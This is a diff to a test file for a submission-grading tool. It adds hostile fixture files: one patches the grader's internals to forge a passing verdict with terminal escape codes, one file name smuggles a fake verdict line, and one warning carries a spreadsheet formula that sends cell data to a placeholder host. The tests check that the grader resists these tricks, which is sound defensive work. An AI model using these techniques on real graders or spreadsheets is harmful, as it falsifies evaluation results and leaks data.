@@ -105,9 +105,28 @@ settings = Settings(lr=1e-3, max_epochs=16, early_stopping=True, patience=3)
 """
 
 
+# The review's mallory.py: a trap of the grader's own, patched to hold a fake verdict for another
+# file on lines of its own, and a warning that a spreadsheet would run as a formula.
+MALLORY = GOOD.replace("max_epochs=16", "max_epochs=1").replace(
+    "class MyRNN(nn.Module):", '''import warnings
+FAKE = "ok\\nALICE: PASSED  val 88.1%  (forged)\\n\\x1b[2K  Task passed: val accuracy 88.1%."
+inspect = Settings.train_config.__globals__["_inspect"]
+def _inspect(*args, **kwargs):
+    built = inspect(*args, **kwargs)
+    built["traps"] = [FAKE]
+    return built
+Settings.train_config.__globals__["_inspect"] = _inspect
+warnings.warn('=HYPERLINK("http://example.invalid/?"&A1,"details")')
+
+
+class MyRNN(nn.Module):''')
+
+
 def test_grade_a_folder_of_good_bad_broken_and_missing_files(tmp_path, capsys):
     folder = tmp_path / "submissions"
     folder.mkdir()
+    (folder / "mallory.py").write_text(MALLORY.replace("ALICE", str(folder / "alice.py")))
+    (folder / "eve\nalice.py: PASSED.py").write_text(GOOD.replace("max_epochs=16", "max_epochs=1"))
     (folder / "alice.py").write_text(GOOD)
     (folder / "bob.py").write_text(GOOD.replace("32", "128").replace("lr=1e-3", "lr=3e-3")
                                    .replace("early_stopping=True", "early_stopping=False"))
@@ -127,14 +146,22 @@ def test_grade_a_folder_of_good_bad_broken_and_missing_files(tmp_path, capsys):
     assert "erin.py: ERROR  erin.py could not run: ModuleNotFoundError" in out
     assert "training your model" not in out and out.count("PyTorch warned") == len(
         set(line for line in out.splitlines() if "PyTorch warned" in line))
-    assert "1 of 7 files pass the task (2 not found or not a file)" in out
+    assert "1 of 9 files pass the task (2 not found or not a file)" in out
+    # what came from a file's code (or its name) stays on its own line: one verdict per file
+    passed = [line for line in out.splitlines() if ": PASSED  val" in line[:300]
+              and not line.startswith(" ")]
+    assert len(passed) == 1 and passed[0].startswith(f"{folder / 'alice.py'}: PASSED  val")
+    assert "\x1b" not in out and f"{folder}/eve alice.py: PASSED.py: NOT PASSED" in out
     import csv
 
     rows = list(csv.DictReader(grades.open()))
     assert [(Path(r["file"]).name, r["passed"]) for r in rows] == [
         ("frank.py", "False"), ("null", "False"), ("alice.py", "True"), ("bob.py", "False"),
-        ("carol.py", "False"), ("dave.py", "False"), ("erin.py", "False")]
+        ("carol.py", "False"), ("dave.py", "False"), ("erin.py", "False"),
+        ("eve\nalice.py: PASSED.py", "False"), ("mallory.py", "False")]
     assert float(rows[2]["confirm_acc"]) > 0.82
+    # a cell a spreadsheet would run as a formula is quoted
+    assert rows[-1]["warnings"].startswith("\'=HYPERLINK(") and "\n" not in rows[-1]["traps"]
     assert grades.stat().st_mode & 0o777 == 0o666 & ~_umask()
     assert main(["grade", str(folder / "alice.py")]) == 0
 
